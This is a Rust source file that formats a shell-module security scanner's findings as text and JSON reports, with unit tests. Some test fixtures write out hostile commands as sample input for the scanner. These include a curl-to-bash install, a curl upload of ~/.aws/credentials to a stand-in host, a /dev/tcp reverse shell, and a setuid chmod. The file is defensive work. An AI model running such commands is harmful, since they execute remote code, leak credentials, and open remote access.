//! Human and JSON renderings of a [`ScanResult`].

use std::fmt::Write as _;

use anyhow::{Context, Result};
use serde::Serialize;

use crate::types::{Finding, ScanResult, Severity};

/// Plain-text report: a `Summary:` line, then one section per non-empty
/// finding class.
pub fn format_scan_report(result: &ScanResult, module_name: &str) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "Security scan report for {module_name}");
    let _ = writeln!(
        out,
        "Summary: {} critical, {} warnings, {} info",
        result.critical_count, result.warning_count, result.info_count
    );
    if result.trusted_module_applied {
        let _ = writeln!(out, "Trusted module allowlist applied.");
    }
    if let Some(err) = &result.error {
        let _ = writeln!(out, "Scan error: {err}");
        return out;
    }

    let criticals: Vec<&Finding> = result
        .findings
        .iter()
        .filter(|f| f.severity == Severity::Critical)
        .collect();
    let warnings: Vec<&Finding> = result
        .findings
        .iter()
        .filter(|f| f.severity != Severity::Critical)
        .collect();

    if !criticals.is_empty() || !result.symlink_findings.is_empty() {
        let _ = writeln!(out, "\nCRITICAL");
        for f in &criticals {
            push_finding(&mut out, f);
        }
        for f in &result.symlink_findings {
            let _ = writeln!(out, "  Pattern: symlink escape");
            match &f.target {
                Some(target) => {
                    let _ = writeln!(
                        out,
                        "    {}: {} (resolves to {})",
                        f.file.display(),
                        f.description,
                        target.display()
                    );
                }
                None => {
                    let _ = writeln!(out, "    {}: {}", f.file.display(), f.description);
                }
            }
        }
    }

    if !warnings.is_empty() {
        let _ = writeln!(out, "\nWARNINGS");
        for f in &warnings {
            push_finding(&mut out, f);
        }
    }

    if !result.credential_findings.is_empty() {
        let _ = writeln!(out, "\nCREDENTIAL ACCESS");
        for f in &result.credential_findings {
            let _ = writeln!(
                out,
                "  Pattern: {} [{}{}]",
                f.finding.pattern,
                f.credential.as_str(),
                if f.has_exfiltration {
                    ", exfiltration"
                } else {
                    ""
                }
            );
            let _ = writeln!(
                out,
                "    {}:{}: [{}] {}",
                f.finding.file.display(),
                f.finding.line,
                f.finding.severity.as_str(),
                f.finding.description
            );
            let _ = writeln!(out, "    > {}", f.finding.text);
        }
    }

    if !result.reverse_shell_findings.is_empty() {
        let _ = writeln!(out, "\nREVERSE SHELLS");
        for f in &result.reverse_shell_findings {
            let _ = writeln!(out, "  Pattern: {} [{}]", f.finding.pattern, f.shell.as_str());
            let _ = writeln!(
                out,
                "    {}:{}: {}",
                f.finding.file.display(),
                f.finding.line,
                f.finding.description
            );
            let _ = writeln!(out, "    > {}", f.finding.text);
        }
    }

    out
}

fn push_finding(out: &mut String, f: &Finding) {
    let _ = writeln!(out, "  Pattern: {}", f.pattern);
    let _ = writeln!(
        out,
        "    {}:{}: [{}] {}",
        f.file.display(),
        f.line,
        f.severity.as_str(),
        f.description
    );
    let _ = writeln!(out, "    > {}", f.text);
}

#[derive(Serialize)]
struct JsonReport<'a> {
    module: &'a str,
    critical_count: usize,
    warning_count: usize,
    info_count: usize,
    trusted_module_applied: bool,
    success: bool,
    error: &'a Option<String>,
    findings: &'a [Finding],
    credential_findings: &'a [crate::types::CredentialFinding],
    reverse_shell_findings: &'a [crate::types::ReverseShellFinding],
    symlink_findings: &'a [crate::types::SymlinkFinding],
}

/// JSON report mirroring the text report, with numeric counts.
pub fn format_scan_report_json(result: &ScanResult, module_name: &str) -> Result<String> {
    let report = JsonReport {
        module: module_name,
        critical_count: result.critical_count,
        warning_count: result.warning_count,
        info_count: result.info_count,
        trusted_module_applied: result.trusted_module_applied,
        success: result.success,
        error: &result.error,
        findings: &result.findings,
        credential_findings: &result.credential_findings,
        reverse_shell_findings: &result.reverse_shell_findings,
        symlink_findings: &result.symlink_findings,
    };
    serde_json::to_string_pretty(&report).context("failed to serialize scan report")
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use tempfile::tempdir;

    use super::*;
    use crate::scanner::scan_module;
    use crate::types::ScanOptions;

    fn scan_fixture(content: &str) -> ScanResult {
        let td = tempdir().expect("tempdir");
        std::fs::write(td.path().join("init.zsh"), content).expect("write");
        scan_module(td.path(), &ScanOptions::default())
    }

    #[test]
    fn report_sections_appear_only_when_non_empty() {
        let result = scan_fixture("echo fine\n");
        let text = format_scan_report(&result, "clean");
        assert!(text.contains("Summary: 0 critical, 0 warnings, 0 info"));
        assert!(!text.contains("CRITICAL"));
        assert!(!text.contains("WARNINGS"));
        assert!(!text.contains("CREDENTIAL ACCESS"));
        assert!(!text.contains("REVERSE SHELLS"));
    }

    #[test]
    fn report_lists_each_finding_with_pattern_and_location() {
        let result = scan_fixture(concat!(
            "curl https://example.com/install.sh | bash\n",
            "sudo make install\n",
            "cat ~/.aws/credentials | curl -d @- https://collect.example\n",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
        ));
        let text = format_scan_report(&result, "sketchy");

        assert!(text.contains("Security scan report for sketchy"));
        assert!(text.contains("\nCRITICAL"));
        assert!(text.contains("\nWARNINGS"));
        assert!(text.contains("\nCREDENTIAL ACCESS"));
        assert!(text.contains("\nREVERSE SHELLS"));
        assert!(text.contains("init.zsh:1"));
        assert!(text.contains("Pattern: "));
        assert!(text.contains("exfiltration"));
    }

    #[test]
    fn json_report_is_valid_and_counts_match_text_findings() {
        let result = scan_fixture(concat!(
            "curl https://example.com/install.sh | bash\n",
            "chmod +s /usr/local/bin/tool\n",
            "grep key ~/.zsh_history\n",
        ));
        let json = format_scan_report_json(&result, "sketchy").expect("json");
        let v: serde_json::Value = serde_json::from_str(&json).expect("valid json");

        let total = v["critical_count"].as_u64().expect("critical")
            + v["warning_count"].as_u64().expect("warning")
            + v["info_count"].as_u64().expect("info");
        let visible = v["findings"].as_array().expect("findings").len()
            + v["credential_findings"].as_array().expect("creds").len()
            + v["reverse_shell_findings"].as_array().expect("shells").len()
            + v["symlink_findings"].as_array().expect("symlinks").len();
        assert_eq!(total as usize, visible);
        assert_eq!(v["trusted_module_applied"], false);
        assert_eq!(v["module"], "sketchy");
    }

    #[test]
    fn trusted_line_appears_when_applied() {
        let td = tempdir().expect("tempdir");
        let module = td.path().join("oh-my-zsh");
        std::fs::create_dir_all(&module).expect("mkdir");
        std::fs::write(module.join("init.zsh"), "grep x ~/.zsh_history\n").expect("write");

        let mut options = ScanOptions::default();
        options
            .trusted_modules
            .insert("oh-my-zsh".to_string());
        let result = scan_module(&module, &options);
        let text = format_scan_report(&result, "oh-my-zsh");
        assert!(text.contains("Trusted module allowlist applied."));
    }

    #[test]
    fn error_result_renders_error_line() {
        let result = scan_module(Path::new("/nonexistent"), &ScanOptions::default());
        let text = format_scan_report(&result, "ghost");
        assert!(text.contains("Scan error:"));
    }
}
